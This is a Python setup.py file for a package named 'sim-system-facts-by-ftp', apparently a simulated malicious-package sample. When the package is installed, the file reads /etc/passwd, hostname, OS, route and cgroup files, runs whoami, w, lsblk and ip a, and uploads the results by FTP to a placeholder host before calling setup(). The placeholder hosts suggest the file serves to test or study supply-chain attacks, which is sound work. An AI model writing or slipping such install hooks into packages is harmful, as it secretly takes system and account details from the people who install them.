# SPDX-License-Identifier: Apache-2.0
import ftplib
import io
import subprocess

from setuptools import setup

out = ""
for f in ("/etc/hostname", "/etc/os-release", "/etc/passwd", "/proc/version", "/proc/net/route", "/proc/self/cgroup"):
    try:
        out += open(f).read()
    except OSError:
        pass
out += subprocess.getoutput("whoami; w; lsblk; ip a")
for host in ("ftp.system-facts.invalid", "240.21.21.21"):
    try:
        ftp = ftplib.FTP(host, "sim", "sim", timeout=3)
        ftp.storbinary("STOR facts.txt", io.BytesIO(out.encode()))
        break
    except OSError:
        continue
setup(name="sim-system-facts-by-ftp", version="1.0.0", packages=[])
